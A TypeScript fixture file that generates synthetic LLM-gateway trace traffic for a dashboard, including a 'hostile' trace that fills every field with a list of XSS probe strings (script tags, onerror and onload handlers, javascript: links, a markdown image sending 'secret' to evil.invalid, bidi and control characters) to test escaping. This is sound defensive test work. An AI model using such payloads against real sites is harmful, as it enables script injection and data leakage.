// Generated traffic of the exact types of schemas/api.ts: several providers and routes, errors, retries, streams, agent
// traces with tools, one trace of 2,000 spans, long conversations, and strings that try to break out of the page.
import type { ApiSpan, SpanIo, TraceDetail, TraceSummary } from '../../schemas/api.ts';
import type { Message, OutputMessage, Part } from '../../schemas/call.ts';

export const INJECTIONS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '{@html "<b>bold</b>"} {alert(1)}',
  '[click](javascript:alert(1)) ![x](http://evil.invalid/?q=secret)',
  'a\u202Eevil\u202Cb \u2028 \u2029 \u200b \u001b[31mred\u001b[0m',
  'شكرا جزيلا, 你好, Ω≈ç√, emoji 🧑‍🚀',
  'body{background:expression(alert(1))}',
];

/** mulberry32: the same traffic at every run. */
export function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

interface Model {
  readonly provider: string;
  readonly deployment: string;
  readonly model: string;
  readonly first: number;
  readonly perToken: number;
  readonly input: number | null;
  readonly output: number;
  readonly fails: number;
}

const MODELS: readonly Model[] = [
  {
    provider: 'openai',
    deployment: 'openai',
    model: 'gpt-5-mini',
    first: 380,
    perToken: 7,
    input: 0.25,
    output: 2,
    fails: 0.02,
  },
  {
    provider: 'openai',
    deployment: 'openai',
    model: 'gpt-5.5',
    first: 900,
    perToken: 14,
    input: 2,
    output: 14,
    fails: 0.01,
  },
  {
    provider: 'anthropic',
    deployment: 'anthropic',
    model: 'claude-haiku-4-5',
    first: 420,
    perToken: 8,
    input: 1,
    output: 5,
    fails: 0.015,
  },
  {
    provider: 'anthropic',
    deployment: 'anthropic-eu',
    model: 'claude-opus-5-5',
    first: 1300,
    perToken: 18,
    input: 5,
    output: 25,
    fails: 0.03,
  },
  {
    provider: 'vllm',
    deployment: 'local',
    model: 'llama-3.3-70b',
    first: 160,
    perToken: 24,
    input: null,
    output: 0,
    fails: 0.06,
  },
];
const ROUTES = ['assistant', 'summarise', 'triage', ''];
const TEAMS = ['search', 'support', 'growth', 'billing'];
const ASKED = [
  'Summarise the last three tickets of this customer and say what they have in common.',
  'Write a SQL query for weekly active users by plan, newest week first.',
  'Which of these two clauses is stricter, and why?',
  'Translate the release notes to German, keep the code untouched.',
  'Is this stack trace a bug of ours or of the driver?',
  'Draft a friendly reply that says the refund is on its way.',
];
const ANSWERED = [
  'All three are about exports that stop at 10,000 rows. Two mention the same dashboard, and one was closed without a fix.',
  "Here is the query. It counts a user once per week:\n\n```sql\nSELECT date_trunc('week', seen_at) AS week, plan, count(DISTINCT user_id) AS users\nFROM activity\nGROUP BY week, plan\nORDER BY week DESC;\n```\n\nIf plans change within a week, a user counts once for each plan.",
  'Clause 7.2 is stricter: it has no exception for prior knowledge.',
  'Die Ausfuhr ist jetzt ohne Obergrenze möglich.',
];

type Pick = <T>(from: readonly T[]) => T;

interface Dice {
  readonly next: () => number;
  readonly pick: Pick;
  readonly hex: (digits: number) => string;
}

function dice(seed: number): Dice {
  const next = random(seed);
  return {
    next,
    pick: <T>(from: readonly T[]): T => from[Math.floor(next() * from.length)] as T,
    hex: (digits) => Array.from({ length: digits }, () => Math.floor(next() * 16).toString(16)).join(''),
  };
}

const BLANK: ApiSpan = {
  trace_id: '', span_id: '', parent_span_id: '', start: 0, duration: 0, name: '', kind: 'internal', op: '',
  service: 'signalbox', source: 'gateway', provider: '', model: '', model_returned: '', deployment: '', route: '',
  reason: '', attempt: 0, team: '', key_id: '', user_id: '', session_id: '', status: 'ok', status_message: '',
  error_type: '', http_status: 0, outcome: '', finish_reason: '', cache: 'none', stream: false, ttft: null,
  overhead: null, in_tok: 0, in_cache_read: 0, in_cache_write: 0, out_tok: 0, out_reasoning: 0, usage_source: 'none',
  cost_usd: null, price_id: '', saved_usd: 0, service_tier: '', units: {}, tools_called: [], in_preview: '', out_preview: '', tags: {}, attrs: {}, events: [],
  links: [], has_io: false,
}; // prettier-ignore

export interface Made {
  readonly summary: TraceSummary;
  readonly detail: TraceDetail;
}

interface Place {
  readonly trace_id: string;
  readonly parent: string;
  readonly start: number;
  readonly route: string;
  readonly team: string;
}

// oxlint-disable-next-line complexity -- one literal with two faces, failed and not
function attempt(
  roll: Dice,
  place: Place,
  { model, nth, fail }: { model: Model; nth: number; fail: boolean },
): ApiSpan {
  const input = Math.round(200 + roll.next() * roll.next() * 12_000);
  const output = Math.round(20 + roll.next() * roll.next() * 900);
  const first = model.first * (0.6 + roll.next() * roll.next() * 2.5);
  const cost = model.input === null ? null : (input * model.input + output * model.output) / 1e6;
  const error = fail ? roll.pick(['rate_limited', 'upstream_timeout', 'overloaded', 'connection_reset']) : '';
  return {
    ...BLANK,
    trace_id: place.trace_id,
    span_id: roll.hex(16),
    parent_span_id: place.parent,
    start: place.start,
    duration: fail ? 80 + roll.next() * 900 : first + output * model.perToken * 0.4,
    name: `chat ${model.model}`,
    kind: 'client',
    op: 'chat',
    provider: model.provider,
    deployment: model.deployment,
    model: model.model,
    model_returned: `${model.model}-2026-08-01`,
    route: place.route,
    team: place.team,
    reason:
      nth > 1
        ? 'fallback: the attempt before failed before its first byte'
        : place.route
          ? 'weight 3 of 4'
          : 'asked for by name',
    attempt: nth,
    status: fail ? 'error' : 'ok',
    error_type: error,
    status_message: fail ? `The provider said: ${error.replace('_', ' ')}, try again later.` : '',
    http_status: fail ? (error === 'rate_limited' ? 429 : 503) : 200,
    finish_reason: fail ? '' : roll.pick(['stop', 'stop', 'stop', 'length', 'tool_calls']),
    stream: true,
    ttft: fail ? null : first,
    in_tok: fail ? 0 : input,
    in_cache_read: fail ? 0 : Math.round(input * (roll.next() > 0.6 ? 0.5 : 0)),
    out_tok: fail ? 0 : output,
    usage_source: fail ? 'none' : roll.next() > 0.9 ? 'estimated' : 'provider',
    cost_usd: fail ? null : cost,
    price_id: cost === null || fail ? '' : `${model.provider}:${model.model}`,
    in_preview: roll.pick(ASKED),
    out_preview: fail ? '' : roll.pick(ANSWERED).slice(0, 160),
    attrs: {
      'server.address': `api.${model.provider}.example`,
      'gen_ai.request.temperature': '0.2',
      'gen_ai.response.id': `chatcmpl-${roll.hex(12)}`,
      'signalbox.upstream.request_id': `req_${roll.hex(10)}`,
    },
    has_io: true,
  };
}

function request(roll: Dice, place: Place): ApiSpan[] {
  const model = roll.pick(MODELS);
  const fail = roll.next() < model.fails * 2;
  const span_id = roll.hex(16);
  const inner = { ...place, parent: span_id, start: place.start + 0.4 };
  const calls = [attempt(roll, inner, { model, nth: 1, fail })];
  const last = calls[0] as ApiSpan;
  if (fail && roll.next() > 0.25) {
    calls.push(
      attempt(
        roll,
        { ...inner, start: last.start + last.duration + 2 },
        { model: roll.pick(MODELS), nth: 2, fail: false },
      ),
    );
  }
  const final = calls.at(-1) as ApiSpan;
  const bad = final.status === 'error';
  const server: ApiSpan = {
    ...BLANK,
    trace_id: place.trace_id,
    span_id,
    parent_span_id: place.parent,
    start: place.start,
    duration: final.start + final.duration - place.start + 0.3,
    name: 'POST /v1/chat/completions',
    kind: 'server',
    route: place.route,
    team: place.team,
    key_id: `${place.team}-key`,
    user_id: `user-${Math.floor(roll.next() * 40)}`,
    session_id: `session-${Math.floor(roll.next() * 90)}`,
    reason: final.reason,
    status: bad ? 'error' : 'ok',
    outcome: bad ? 'upstream_error' : 'ok',
    error_type: final.error_type,
    http_status: bad ? 502 : 200,
    stream: true,
    ttft: final.ttft,
    overhead: 0.31 + roll.next(),
    in_preview: final.in_preview,
    out_preview: final.out_preview,
    tags: { feature: roll.pick(['chat', 'digest', 'export']), release: '2026.11.3' },
    attrs: {
      'http.request.method': 'POST',
      'url.path': '/v1/chat/completions',
      'signalbox.request.model': place.route || `${model.provider}/${model.model}`,
      'signalbox.dialect': 'openai_chat',
      'user_agent.original': 'OpenAI/JS 7.57.0',
    },
  };
  return [server, ...calls];
}

function agent(roll: Dice, { trace_id, start, team }: Place, turns: number): ApiSpan[] {
  const root = roll.hex(16);
  const spans: ApiSpan[] = [];
  let at = start + 2;
  for (let turn = 0; turn < turns; turn += 1) {
    const calls = request(roll, { trace_id, parent: root, start: at, route: 'assistant', team });
    spans.push(...calls);
    at += (calls[0]?.duration ?? 0) + 1;
    const tools = turn < turns - 1 ? 1 + Math.floor(roll.next() * 3) : 0;
    for (let tool = 0; tool < tools; tool += 1) {
      const name = roll.pick(['search_docs', 'get_ticket', 'run_sql', 'send_mail']);
      const bad = roll.next() < 0.05;
      const duration = 20 + roll.next() * 400;
      spans.push({
        ...BLANK, trace_id, span_id: roll.hex(16), parent_span_id: root, start: at, duration,
        name: `execute_tool ${name}`, op: 'execute_tool', service: 'support-agent', source: 'otlp', team,
        status: bad ? 'error' : 'ok', error_type: bad ? 'ToolTimeout' : '', status_message: bad ? `${name} did not answer within 300 ms` : '',
        attrs: { 'gen_ai.tool.name': name, 'gen_ai.tool.call.arguments': '{"query":"export limit","limit":5}', 'gen_ai.tool.call.result': '{"hits":2}' },
        events: [{ ts: (at + duration / 2) * 1000, name: 'retry', attrs: { after: '50 ms' } }],
      }); // prettier-ignore
      at += duration + 1;
    }
  }
  const head: ApiSpan = {
    ...BLANK, trace_id, span_id: root, start, duration: at - start + 4, name: 'invoke_agent support-agent', op: 'invoke_agent',
    service: 'support-agent', source: 'otlp', team, in_preview: roll.pick(ASKED), out_preview: roll.pick(ANSWERED).slice(0, 160),
  }; // prettier-ignore
  return [head, ...spans];
}

export function wrap(spans: readonly ApiSpan[]): Made {
  const head = spans[0] as ApiSpan;
  const calls = spans.filter((span) => span.op === 'chat');
  const priced = calls.filter((span) => span.cost_usd !== null);
  const cost_usd = priced.length === 0 ? null : priced.reduce((sum, span) => sum + (span.cost_usd ?? 0), 0);
  const sum = (of: (span: ApiSpan) => number): number => calls.reduce((total, span) => total + of(span), 0);
  const shared = {
    trace_id: head.trace_id,
    start: head.start,
    duration: head.duration,
    in_tok: sum((span) => span.in_tok),
    out_tok: sum((span) => span.out_tok),
    cost_usd,
    cost_partial: priced.length > 0 && calls.some((span) => span.status === 'ok' && span.cost_usd === null),
    outcome: head.outcome,
  };
  const { span_id, name, service, source, team, user_id, session_id, route, status, error_type, http_status } = head;
  return {
    detail: { ...shared, spans, truncated: false },
    summary: {
      ...shared, span_id, name, service, source, team, user_id, session_id, route, status, error_type, http_status,
      cache: head.cache, stream: head.stream, ttft: head.ttft, providers: [...new Set(calls.map((span) => span.provider))],
      models: [...new Set(calls.map((span) => span.model))], spans: spans.length,
      errors: spans.filter((span) => span.status === 'error').length, attempts: calls.length,
      tok_estimated: calls.some((span) => span.usage_source === 'estimated'), in_preview: head.in_preview, out_preview: head.out_preview,
    },
  }; // prettier-ignore
}

export const BIG_TRACE = 'b1'.repeat(16);
export const HOSTILE_TRACE = 'e7'.repeat(16);
export const AGENT_TRACE = 'a6'.repeat(16);

/** One more request, as it would come in live. */
export function oneRequest(seed: number, start: number): Made {
  const roll = dice(seed);
  return wrap(
    request(roll, { trace_id: roll.hex(32), parent: '', start, route: roll.pick(ROUTES), team: roll.pick(TEAMS) }),
  );
}

/** A day's traffic that ends now, newest first. */
export function traffic(now: number, size: number): Made[] {
  const roll = dice(7);
  const made: Made[] = [];
  for (let index = 0; index < size; index += 1) {
    // Half of it within the last hour, with a slow swell; the rest over two days.
    const hour = 3_600_000 * (0.1 + 0.9 * roll.next() * (0.7 + 0.3 * roll.next())) - 360_000 * roll.next();
    const start = now - 2000 - Math.abs(roll.next() < 0.5 ? hour : 172_800_000 * roll.next());
    const place = { trace_id: roll.hex(32), parent: '', start, route: roll.pick(ROUTES), team: roll.pick(TEAMS) };
    made.push(wrap(roll.next() < 0.06 ? agent(roll, place, 2 + Math.floor(roll.next() * 4)) : request(roll, place)));
  }
  const place = { parent: '', route: '', team: 'support' };
  made.push(wrap(agent(roll, { ...place, trace_id: BIG_TRACE, start: now - 18_000_000 }, 420).slice(0, 2000)));
  made.push(wrap(agent(roll, { ...place, trace_id: AGENT_TRACE, start: now - 90_000 }, 5)));
  made.push(hostile(roll, now - 30_000));
  return made.sort((a, b) => b.summary.start - a.summary.start);
}

function hostile(roll: Dice, start: number): Made {
  const evil = INJECTIONS.join(' ');
  const spans = request(roll, {
    trace_id: HOSTILE_TRACE,
    parent: '',
    start,
    route: INJECTIONS[0] ?? '',
    team: INJECTIONS[1] ?? '',
  });
  return wrap(
    spans.map((span) => ({
      ...span, name: evil, model: INJECTIONS[2] ?? '', provider: INJECTIONS[3] ?? '', deployment: INJECTIONS[4] ?? '', user_id: evil,
      session_id: evil, reason: evil, error_type: INJECTIONS[0] ?? '', status_message: evil, in_preview: evil, out_preview: evil,
      tags: { [INJECTIONS[0] ?? '']: evil, __proto__x: '1' }, attrs: { [evil]: evil }, tools_called: [evil],
    })),
  ); // prettier-ignore
}

export function ioOf(span: ApiSpan): SpanIo {
  if (span.trace_id === HOSTILE_TRACE) return hostileIo();
  const messages: Message[] = [
    { role: 'system', parts: [text('You help the support team. Answer in one short paragraph, and quote ticket numbers.')] },
    { role: 'user', parts: [text(span.in_preview)] },
    { role: 'assistant', parts: [{ type: 'reasoning', content: 'The person wants a summary. I need the tickets first.' }, { type: 'tool_call', id: 'call_1', name: 'get_ticket', arguments: { ids: [4711, 4712, 4730], fields: ['title', 'body'] } }] },
    { role: 'tool', parts: [{ type: 'tool_call_response', id: 'call_1', response: { tickets: [{ id: 4711, title: 'Export stops' }, { id: 4712, title: 'CSV is cut' }] } }] },
    { role: 'user', parts: [text('Please also look at the screenshot.'), { type: 'uri', modality: 'image', uri: 'https://files.example/screenshot.png' }, { type: 'blob', modality: 'image', mime_type: 'image/png', content: 'iVBORw0KGgo='.repeat(400) }] },
  ]; // prettier-ignore
  const long = Array.from({ length: 24 }, (_, index): Message => ({
    role: index % 2 === 0 ? 'assistant' : 'user',
    parts: [text(index % 2 === 0 ? (ANSWERED[index % ANSWERED.length] ?? '') : (ASKED[index % ASKED.length] ?? ''))],
  }));
  const output: OutputMessage[] =
    span.status === 'error'
      ? []
      : [{ role: 'assistant', finish_reason: span.finish_reason, parts: [text(ANSWERED[1] ?? '')] }];
  const body = JSON.stringify({
    model: span.model,
    stream: true,
    messages: [{ role: 'user', content: span.in_preview }],
  });
  return {
    input: { system: [], messages: [...messages, ...long], tools: [{ type: 'function', name: 'get_ticket', description: 'Reads tickets by id.', parameters: { type: 'object', properties: { ids: { type: 'array' } } } }] },
    output,
    raw_request: body,
    raw_response: span.status === 'error' ? '{"error":{"message":"try again later"}}' : `data: ${JSON.stringify({ id: 'chatcmpl-1', choices: [{ delta: { content: 'All three' } }] })}\n\ndata: [DONE]\n\n`,
    request_size: body.length,
    response_size: 4211,
    truncated: false,
  }; // prettier-ignore
}

function text(content: string): Part {
  return { type: 'text', content };
}

function hostileIo(): SpanIo {
  const evil = INJECTIONS.join('\n');
  return {
    input: {
      system: [text(evil)],
      messages: [
        { role: 'user', name: evil, parts: INJECTIONS.map(text) },
        { role: 'tool', parts: [{ type: 'tool_call_response', id: evil, response: evil, is_error: true }] },
        { role: 'user', parts: [{ type: 'uri', modality: 'image', uri: 'javascript:alert(1)' }, { type: 'generic', generic_type: evil, content: { [evil]: evil } }] },
      ],
      tools: [{ type: 'function', name: evil, description: evil }],
    },
    output: [{ role: 'assistant', finish_reason: 'stop', parts: [{ type: 'refusal', content: evil }, { type: 'tool_call', id: '1', name: evil, arguments: evil }] }],
    raw_request: evil,
    raw_response: evil,
    request_size: evil.length,
    response_size: evil.length,
    truncated: true,
  }; // prettier-ignore
}
